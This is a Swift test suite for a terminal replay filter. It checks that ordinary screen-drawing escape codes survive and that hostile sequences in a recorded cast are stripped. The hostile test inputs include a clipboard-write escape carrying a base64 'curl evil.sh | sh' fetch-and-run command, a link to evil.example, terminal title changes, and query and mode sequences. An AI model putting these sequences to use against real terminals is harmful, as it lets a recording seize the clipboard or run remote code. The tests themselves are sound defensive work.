import Testing

@testable import Recording

/// What a hostile cast may not send to the terminal that plays it, and what drawing keeps.
@Suite struct ReplayFilterTests {
    static func filtered(_ pieces: String...) -> String {
        var filter = ReplayFilter()
        return pieces.map { filter.filter($0) }.joined()
    }

    @Test func drawingIsKept() {
        let drawing =
            "\u{1B}[H\u{1B}[2J\u{1B}[1;31mInbox\u{1B}[0m\r\n\u{1B}[5;10H─┼─\u{1B}[K\u{1B}[?25l\u{1B}[?25h\u{1B}(0q\u{1B}(B\u{0E}\u{0F}"
            + "\u{1B}[2 q\u{1B}[3;20r\u{1B}7\u{1B}8\u{1B}M\u{1B}[38;5;208m✓\u{1B}[38:2::1:2:3m\u{1B}[4h\u{1B}[4l\u{1B}[?2026h\u{07}\t\u{08}"
        #expect(Self.filtered(drawing) == drawing)
    }

    @Test func stringsAreRemovedWhateverEndsThem() {
        let hostile = [
            "\u{1B}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{07}",  // clipboard write, ended by BEL
            "\u{1B}]52;c;Y3VybA==\u{1B}\\",  // … by ST
            "\u{1B}]0;owned\u{07}",  // title
            "\u{1B}]8;;https://evil.example\u{1B}\\link\u{1B}]8;;\u{1B}\\",  // hyperlink (its text stays)
            "\u{1B}P$qm\u{1B}\\",  // DECRQSS (DCS)
            "\u{1B}P+q544e\u{1B}\\",  // XTGETTCAP
            "\u{1B}_Gi=31,a=q;AAAA\u{1B}\\",  // kitty graphics (APC)
            "\u{1B}^private\u{1B}\\", "\u{1B}Xsos\u{1B}\\",
            "\u{1B}]10;?\u{18}",  // abandoned by CAN
        ]
        for text in hostile {
            let kept = Self.filtered("a" + text + "b")
            #expect(kept == "ab" || kept == "alinkb", "\(text.debugDescription) left \(kept.debugDescription)")
        }
    }

    @Test func aSequenceCutAcrossEventsIsStillRemoved() {
        #expect(Self.filtered("a\u{1B}", "]52;c;", "ZXZpbA==", "\u{1B}", "\\b") == "ab")
        #expect(Self.filtered("a\u{1B}[", "6", "n", "b\u{1B}[3", "1m") == "ab\u{1B}[31m")
    }

    @Test func queriesAndModesOutsideTheScreenAreRemoved() {
        let queries = [
            "\u{1B}[6n", "\u{1B}[5n", "\u{1B}[?6n", "\u{1B}[c", "\u{1B}[0c", "\u{1B}[>c", "\u{1B}[=c", "\u{1B}[>q", "\u{1B}[?2026$p",
            "\u{1B}[2$p", "\u{1B}[21t", "\u{1B}[14t", "\u{1B}[8;100;100t", "\u{1B}[?u", "\u{1B}[>1u", "\u{1B}[>4;2m", "\u{1B}[1;1;1;1;1*y",
            "\u{1B}[?1000h", "\u{1B}[?1006h", "\u{1B}[?2004h", "\u{1B}[?1004h", "\u{1B}[?1049h", "\u{1B}[?1049l", "\u{1B}[?1h", "\u{1B}[20h",
            "\u{1B}[5i", "\u{1B}c", "\u{1B}Z", "\u{1B} G", "\u{1B}%G", "\u{1B}#8", "\u{1B}=", "\u{1B}>", "\u{05}", "\u{00}", "\u{7F}", "\u{9B}6n",
            "\u{9D}0;x\u{9C}", "\u{1B}[" + String(repeating: "1;", count: 80) + "m",
        ]
        for text in queries {
            let kept = Self.filtered("a" + text + "b")
            #expect(kept == "ab" || kept == "a6nb" || kept == "a0;xb", "\(text.debugDescription) left \(kept.debugDescription)")
            #expect(!kept.unicodeScalars.contains { $0.value < 0x20 || (0x7F...0x9F).contains($0.value) })
        }
    }

    @Test func aMixOfModesKeepsOnlyTheScreensOwn() {
        #expect(Self.filtered("\u{1B}[?25;1000;1049h") == "\u{1B}[?25h")
        #expect(Self.filtered("\u{1B}[?1000;1006l") == "")
    }
}
